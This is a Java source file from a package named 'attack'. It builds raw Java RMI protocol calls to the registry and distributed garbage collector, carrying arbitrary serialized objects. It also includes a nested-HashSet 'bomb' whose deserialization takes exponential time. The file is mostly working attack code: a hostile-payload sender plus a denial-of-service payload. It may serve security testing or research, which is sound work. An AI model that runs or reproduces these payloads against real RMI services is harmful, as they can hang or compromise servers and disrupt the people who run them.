package io.github.logoffd.attack;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.OutputStream;
import java.rmi.server.ObjID;
import java.util.HashSet;
import java.util.Set;

/** Calls of Java RMI as bytes, with objects where the other side expects others or none. */
final class Jrmp {

    static final ObjID REGISTRY = new ObjID(ObjID.REGISTRY_ID);
    static final ObjID GARBAGE_COLLECTOR = new ObjID(ObjID.DGC_ID);

    /** Instead of the number of an operation, which is then found by its hash. */
    static final int BY_HASH = -1;

    static final long REGISTRY_HASH = 4905912898345647071L;
    static final long GARBAGE_COLLECTOR_HASH = -669196253586618813L;

    private static final int MAGIC = 0x4a524d49;
    private static final int VERSION = 2;
    private static final int SINGLE_OP = 0x4c;
    private static final int CALL = 0x50;

    private Jrmp() {}

    /** Returns a call of an object; a Long is sent as a primitive. */
    static byte[] call(ObjID object, int operation, long hash, Object... arguments) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream data = new DataOutputStream(bytes);
        data.writeInt(MAGIC);
        data.writeShort(VERSION);
        data.writeByte(SINGLE_OP);
        data.writeByte(CALL);
        try (ObjectOutputStream objects = new Unannotated(bytes)) {
            object.write(objects);
            objects.writeInt(operation);
            objects.writeLong(hash);
            for (Object argument : arguments) {
                if (argument instanceof Long number) {
                    objects.writeLong(number);
                } else {
                    objects.writeObject(argument);
                }
            }
        }
        return bytes.toByteArray();
    }

    /** Returns sets within sets, whose deserialization takes exponential time. */
    static Set<Object> bomb() {
        Set<Object> root = new HashSet<>();
        Set<Object> left = root;
        Set<Object> right = new HashSet<>();
        for (int i = 0; i < 100; i++) {
            Set<Object> nextLeft = new HashSet<>();
            Set<Object> nextRight = new HashSet<>();
            nextLeft.add("different");
            left.add(nextLeft);
            left.add(nextRight);
            right.add(nextLeft);
            right.add(nextRight);
            left = nextLeft;
            right = nextRight;
        }
        return root;
    }

    /** As RMI has it: after each class stands where to load it from, here nowhere. */
    private static final class Unannotated extends ObjectOutputStream {

        Unannotated(OutputStream out) throws IOException {
            super(out);
        }

        @Override
        protected void annotateClass(Class<?> type) throws IOException {
            writeObject(null);
        }

        @Override
        protected void annotateProxyClass(Class<?> type) throws IOException {
            writeObject(null);
        }
    }
}
